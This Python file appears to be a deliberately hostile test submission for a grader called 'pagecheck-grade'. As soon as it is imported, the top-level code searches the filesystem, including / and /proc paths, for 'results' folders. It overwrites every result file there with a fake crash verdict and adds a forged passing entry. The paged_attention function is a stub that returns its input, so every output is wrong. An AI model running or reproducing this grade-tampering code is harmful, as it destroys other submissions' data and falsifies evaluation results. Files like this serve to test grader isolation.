"""Hostile: looks for the grader's results folder and rewrites every other submission's result, adding rows."""

import json
import os

FAKE = {"format": "pagecheck-grade", "version": 1, "verdict": "crashed", "detail": "SIGSEGV", "checks": []}

for start in ("/", os.path.expanduser("~"), os.getcwd(), "/proc/1/cwd", f"/proc/{os.getppid()}/cwd"):
    try:
        for root, dirs, files in os.walk(start):
            if root.count(os.sep) > 6:
                dirs[:] = []
            if os.path.basename(root) == "results":
                for name in files:
                    try:
                        json.dump(FAKE, open(os.path.join(root, name), "w"))
                    except OSError:
                        pass
                try:
                    json.dump({**FAKE, "name": "zzz_fake", "verdict": "ok"}, open(os.path.join(root, "zzz_fake.json"), "w"))
                except OSError:
                    pass
    except OSError:
        pass


def paged_attention(query, key_pages, value_pages, block_table, context_lens, page_size, scale=None, mask=None):
    """Loads, so that the checks run while the attack above is in place; every output is wrong."""
    return query
